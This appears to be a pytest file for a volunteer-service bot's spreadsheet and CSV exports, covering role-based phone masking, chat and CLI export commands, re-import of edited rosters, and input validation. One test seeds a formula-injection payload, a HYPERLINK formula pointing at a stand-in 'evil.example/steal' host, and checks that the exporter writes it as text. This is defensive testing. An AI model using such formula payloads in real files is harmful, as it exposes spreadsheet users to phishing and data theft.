"""Exports read back intact (openpyxl, csv), with phones masked per docs/roles.md — from chat and from the CLI."""

from __future__ import annotations

import asyncio
import csv
import io
from argparse import Namespace
from datetime import date, timedelta
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook

from bot.cli import DEMO_DIR
from bot.cli.export import run_export
from bot.settings import Settings
from handlers.datamap.files import BOM, build_file
from storage.datamap.exports import HEADERS, PhoneRule, export_rows, mask
from storage.db import create_all, create_engine, session_factory
from storage.models import OrgUnit, Person, Team
from storage.models.activities import Activity
from storage.roster.importing import import_directory, import_roster
from storage.tasks.hours import credit_hours
from storage.tasks.transitions import (
    accept_task,
    close_task,
    complete_task,
    create_task,
    offer_task,
)

TODAY = date(2026, 11, 28)


async def _serve(chat) -> None:
    """Two services in 蓬莱: one by 赵志愿 (lives there), one by 姜兆彤 of the county's farming team."""
    await chat.send("王大娘", "奶奶八十多了，想请人来帮忙理个发，电话13900000001")
    await chat.send("王大娘", "确认")
    await chat.send("赵志愿", "接单 #1")
    await chat.send("赵志愿", "完成 #1 2小时")
    await chat.send("王大娘", "评价 #1 5 很满意")
    await chat.send("王大娘", "大棚里的黄瓜叶子发黄，想请农技员来指导")
    await chat.send("王大娘", "确认")
    await chat.send("姜兆彤", "接单 #2")
    await chat.send("姜兆彤", "完成 #2 1.5小时")
    await chat.send("王大娘", "评价 #2 4")


def _xlsx(data: bytes) -> list[list[object]]:
    sheet = load_workbook(io.BytesIO(data), read_only=True).active
    return [list(r) for r in sheet.iter_rows(values_only=True)]


def _csv(data: bytes) -> list[list[str]]:
    text = data.decode("utf-8")
    assert text.startswith(BOM)  # so a spreadsheet program reads the file as UTF-8
    return list(csv.reader(io.StringIO(text[1:])))


async def test_export_rows_on_both_backends_read_back_intact(chat) -> None:
    await _serve(chat)
    rule = PhoneRule(home_scopes=("/1/2/3/4/",), task_contacts=True)  # 蓬莱's path in the small network
    async with chat.sessions() as s:
        station = await s.get(OrgUnit, chat.ids["PL"])
        assert station.path == "/1/2/3/4/"
        data, count, cut = await build_file(export_rows(s, "hours", station, TODAY, TODAY, rule), HEADERS["hours"],
                                            "xlsx", title="工时")
        rows = _xlsx(data)
        assert rows[0] == HEADERS["hours"] and count == 2 and not cut
        by_name = {r[1]: r for r in rows[1:]}
        assert by_name["赵志愿"][2] == "13900000015" and by_name["赵志愿"][3] == "蓬莱社区新时代文明实践站"
        assert by_name["姜兆彤"][2] == "139****0011"  # lives outside the station admin's scope
        assert by_name["赵志愿"][4] == "蓬莱社区新时代文明实践站" and by_name["姜兆彤"][6] == 1.5
        assert by_name["赵志愿"][5] == "任务 #1"

        data, count, _ = await build_file(export_rows(s, "tasks", station, TODAY, TODAY, rule), HEADERS["tasks"],
                                          "csv", title="任务")
        rows = _csv(data)
        assert rows[0] == HEADERS["tasks"] and count == 2
        first = rows[1]
        assert first[2] == "蓬莱社区新时代文明实践站" and first[4] == "已完成" and first[5] == "王大娘"
        assert first[6] == "13900000001" and "理个发" in first[7] and first[8] == "赵志愿"
        masked = PhoneRule()
        data, _, _ = await build_file(export_rows(s, "tasks", station, TODAY, TODAY, masked), HEADERS["tasks"],
                                      "csv", title="任务")
        assert _csv(data)[1][6] == "139****0001" and "13900000001" not in data.decode("utf-8")

        county = await s.get(OrgUnit, chat.ids["BP"])
        data, count, _ = await build_file(export_rows(s, "volunteers", county, TODAY, TODAY, PhoneRule()),
                                          HEADERS["volunteers"], "xlsx", title="志愿者")
        rows = _xlsx(data)
        zhao = next(r for r in rows[1:] if r[0] == "赵志愿")
        # The roster's headers (单位编码, 队伍编码 beside the names), so the sheet imports back.
        assert zhao[1] == "139****0015" and set(zhao[5].split("、")) == {"蓬莱社区志愿服务队", "城关综合服务分队"}
        assert zhao[2] == "PL" and set(zhao[4].split("|")) == {"PLD", "ZH"}
        assert zhao[9] == 1 and zhao[10] == 2
        assert count == 8

        team = await s.get(Team, chat.ids["PLD"])
        start = chat.clock.now() + timedelta(hours=3)
        s.add(Activity(team_id=team.id, org_unit_id=station.id, title="包饺子·敬老", starts_at=start,
                       ends_at=start + timedelta(hours=2), capacity=20, checkin_code="1234", status="planned",
                       beneficiaries=12, created_at=chat.clock.now()))
        await s.commit()
        data, count, _ = await build_file(export_rows(s, "activities", county, TODAY, TODAY, PhoneRule()),
                                          HEADERS["activities"], "csv", title="活动")
        rows = _csv(data)
        assert count == 1 and rows[1][1] == "包饺子·敬老" and rows[1][8] == "20" and rows[1][12] == "12"


async def test_station_admin_exports_from_chat_as_a_document(chat) -> None:
    await _serve(chat)
    out = await chat.send("蓬莱站长", "导出 工时")
    text = chat.last_to("蓬莱站长", out)
    assert "蓬莱社区新时代文明实践站" in text and "共 2 行" in text
    doc = [a for m in out for a in m.attachments][0]
    assert doc.kind == "document" and doc.filename.endswith(".xlsx") and doc.filename.startswith("工时_蓬莱社区")
    rows = _xlsx(doc.data)
    phones = {r[1]: r[2] for r in rows[1:]}
    assert phones == {"赵志愿": "13900000015", "姜兆彤": "139****0011"}

    out = await chat.send("中心管理员", "导出 任务 城关 2026-11-01 2026-11-30 csv")
    doc = [a for m in out for a in m.attachments][0]
    assert doc.filename == "任务_城关街道新时代文明实践所_2026-11-01至2026-11-30.csv" and doc.mime == "text/csv"
    rows = _csv(doc.data)
    assert [r[0] for r in rows[1:]] == ["1", "2"] and rows[1][6] == "13900000001"


async def test_chat_export_refusals_and_bad_input(chat) -> None:
    out = await chat.send("赵志愿", "导出 工时")
    assert "只对站长、所长和中心管理员开放" in chat.last_to("赵志愿", out)
    out = await chat.send("蓬莱站长", "导出 工时 台吉村")
    assert "不在您的管辖范围内" in chat.last_to("蓬莱站长", out)
    out = await chat.send("蓬莱站长", "导出 工资")
    assert "导出 工时|任务|志愿者|活动" in chat.last_to("蓬莱站长", out)
    out = await chat.send("蓬莱站长", "导出 工时 2026-13-45")
    assert "日期写成" in chat.last_to("蓬莱站长", out)
    out = await chat.send("蓬莱站长", "导出 工时 2026-11-30 2026-11-01")  # any order is read as a range
    assert "2026-11-01 至 2026-11-30" in chat.last_to("蓬莱站长", out)
    assert not [a for m in out for a in m.attachments if m.person_id != chat.ids["蓬莱站长"]]


def test_mask_keeps_enough_to_recognise() -> None:
    assert mask("13900000101") == "139****0101" and mask("") == "" and mask("12345") == "****"


@pytest.fixture
async def demo_db(tmp_path: Path, clock) -> str:
    """A migrated-looking SQLite file with the demo county and a served task in 杨家村."""
    from alembic import command

    from storage.migrate import alembic_config

    url = f"sqlite+aiosqlite:///{tmp_path / 'export.db'}"
    engine = create_engine(url)
    await create_all(engine)
    await asyncio.to_thread(command.stamp, alembic_config(url), "head")
    sessions = session_factory(engine)
    await import_directory(session_factory=sessions, directory=DEMO_DIR, now=clock.now())
    async with sessions() as s:
        station = (await s.execute(OrgUnit.__table__.select().where(OrgUnit.code == "DG-HTK-YJ"))).one()
        people = {p.name: p for p in (await s.execute(Person.__table__.select())).all()}
        task = await create_task(session=s, resident_id=people["杨树林"].id, created_by_id=people["杨树林"].id,
                                 org_unit_id=station.id, category="农业技术", description="草莓炭疽病，电话13900000904",
                                 now=clock.now(), phone="13900000904")
        team = (await s.execute(Team.__table__.select().where(Team.code == "DG-CMD"))).one()
        await offer_task(session=s, task_id=task.id, team_ids=[team.id], level="center", now=clock.now(), window=None)
        await accept_task(session=s, task_id=task.id, volunteer_id=people["姜兆彤"].id, team_id=team.id,
                          now=clock.now())
        await complete_task(session=s, task_id=task.id, volunteer_id=people["姜兆彤"].id, hours=Decimal(3),
                            now=clock.now())
        await close_task(session=s, task_id=task.id, now=clock.now())
        await credit_hours(session=s, volunteer_id=people["杨丽"].id, hours=Decimal("1.5"),
                           source_type="activity_signup", source_id=999, now=clock.now())
        await s.commit()
    await engine.dispose()
    return url


def _args(**kw: object) -> Namespace:
    base = dict(kind="hours", region="DG-HTK-YJ", date_from=TODAY, date_to=TODAY, format="csv", output=None,
                mask_phones=False)
    return Namespace(**{**base, **kw})


async def test_cli_export_csv_to_stdout_shows_phones_to_the_operator(demo_db, capsys) -> None:
    settings = Settings(database_url=demo_db)
    assert await run_export(settings, _args(kind="tasks")) == 0
    captured = capsys.readouterr()
    rows = list(csv.reader(io.StringIO(captured.out)))
    assert not captured.out.startswith(BOM)  # stdout is for pipes
    assert rows[0] == HEADERS["tasks"] and rows[1][2] == "杨家村新时代文明实践站" and rows[1][6] == "13900000904"
    assert rows[1][8] == "姜兆彤" and "已导出" in captured.err
    assert await run_export(settings, _args(kind="volunteers", mask_phones=True)) == 0
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    assert {r[0]: r[1] for r in rows[1:]} == {"杨国富": "139****0024", "杨丽": "139****0025", "杨振华": "139****0105"}


async def test_cli_export_xlsx_file_and_bad_requests(demo_db, tmp_path, capsys) -> None:
    settings = Settings(database_url=demo_db)
    target = tmp_path / "工时.xlsx"
    assert await run_export(settings, _args(format="xlsx", output=target, region="DG")) == 0
    rows = _xlsx(target.read_bytes())
    assert rows[0] == HEADERS["hours"] and {r[1]: r[2] for r in rows[1:]} == {"姜兆彤": "13900000021"}
    csv_file = tmp_path / "v.csv"
    assert await run_export(settings, _args(kind="volunteers", output=csv_file, region="DG")) == 0
    assert csv_file.read_text(encoding="utf-8").startswith(BOM + "姓名,手机号")
    assert await run_export(settings, _args(region="NOPE")) == 2
    assert "没有编码为 NOPE 的单位" in capsys.readouterr().err
    assert await run_export(settings, _args(date_from=date(2026, 12, 1))) == 2


async def _import_volunteers(url: str, path: Path, clock) -> dict[str, tuple[int, int, int]]:
    engine = create_engine(url)
    try:
        report = await import_roster(session_factory=session_factory(engine), paths=[], chosen={"volunteers": path},
                                     now=clock.now())
        assert report.ok, report.errors
        return {k: (c.created, c.updated, c.unchanged) for k, c in report.counts.items()}
    finally:
        await engine.dispose()


async def _volunteers(url: str) -> dict[str, tuple[str, str, bool, str]]:
    engine = create_engine(url)
    try:
        async with session_factory(engine)() as s:
            rows = await s.execute(Person.__table__.select().where(Person.is_volunteer.is_(True)))
            return {r.phone: (r.name, r.skills, r.party_member, r.org_unit_id) for r in rows}
    finally:
        await engine.dispose()


async def test_an_edited_volunteers_export_imports_back(demo_db, tmp_path, clock, capsys) -> None:
    settings = Settings(database_url=demo_db)
    sheet = tmp_path / "东港志愿者.csv"
    assert await run_export(settings, _args(kind="volunteers", output=sheet, region="DG")) == 0
    before = await _volunteers(demo_db)
    # Unchanged, it changes nothing.
    assert await _import_volunteers(demo_db, sheet, clock) == {"volunteers": (0, 0, 7)}
    assert await _volunteers(demo_db) == before

    rows = list(csv.reader(io.StringIO(sheet.read_text(encoding="utf-8-sig"))))
    header = rows[0]
    yang = next(r for r in rows[1:] if r[0] == "杨丽")
    yang[0], yang[header.index("技能")] = "杨丽华", "生活帮扶、理发"
    new = [""] * len(header)
    new[0], new[1], new[2], new[4], new[7] = "杨小满", "139 0000 0777", "DG-HTK-YJ", "DG-HTK-YJ-D", "否"
    with sheet.open("w", encoding="utf-8-sig", newline="") as out:
        csv.writer(out).writerows(rows + [new])
    assert await _import_volunteers(demo_db, sheet, clock) == {"volunteers": (1, 1, 6)}
    after = await _volunteers(demo_db)
    assert after["13900000025"][:2] == ("杨丽华", "|生活帮扶|理发|")
    assert after["13900000777"][0] == "杨小满" and after["13900000777"][3] == after["13900000024"][3]
    assert len(after) == len(before) + 1


async def test_an_xlsx_volunteers_export_imports_back(demo_db, tmp_path, clock) -> None:
    settings = Settings(database_url=demo_db)
    target = tmp_path / "志愿者名单.xlsx"
    assert await run_export(settings, _args(kind="volunteers", output=target, region="BP", format="xlsx")) == 0
    book = load_workbook(target)
    sheet = book.active
    header = [c.value for c in sheet[1]]
    for row in sheet.iter_rows(min_row=2):
        if row[0].value == "陈刚":
            row[header.index("是否党员")].value = "否"
    book.save(target)
    assert await _import_volunteers(demo_db, target, clock) == {"volunteers": (0, 1, 25)}
    assert (await _volunteers(demo_db))["13900000001"][2] is False


async def test_cli_export_writes_no_formula_from_names_or_messages(demo_db, tmp_path: Path) -> None:
    """An imported name or a villager's words starting with = + - @ reach the file as text (issue 12)."""
    from sqlalchemy import update

    from storage.models import Task

    engine = create_engine(demo_db)
    async with session_factory(engine)() as s:
        await s.execute(update(Person).where(Person.name == "姜兆彤").values(name="=1+2"))
        await s.execute(update(Task).values(description='=HYPERLINK("http://evil.example/steal","帮忙")'))
        await s.commit()
    await engine.dispose()
    settings = Settings(database_url=demo_db)
    xlsx, csv_file = tmp_path / "t.xlsx", tmp_path / "t.csv"
    assert await run_export(settings, _args(kind="tasks", format="xlsx", output=xlsx)) == 0
    assert await run_export(settings, _args(kind="tasks", format="csv", output=csv_file)) == 0
    sheet = load_workbook(xlsx).active
    cells = [c for row in sheet.iter_rows() for c in row]
    assert all(c.data_type != "f" for c in cells)
    values = {c.value for c in cells}
    assert "'=1+2" in values and any(str(v).startswith("'=HYPERLINK") for v in values)
    rows = list(csv.reader(io.StringIO(csv_file.read_text(encoding="utf-8")[1:], newline="")))
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
    assert "'=1+2" in rows[1]


async def test_cli_export_refuses_absurd_dates(capsys) -> None:
    from bot.cli.export import add_arguments
    import argparse

    parser = argparse.ArgumentParser()
    add_arguments(parser)
    with pytest.raises(SystemExit):
        parser.parse_args(["hours", "X", "--from", "1900-01-01"])
    assert "日期要在" in capsys.readouterr().err
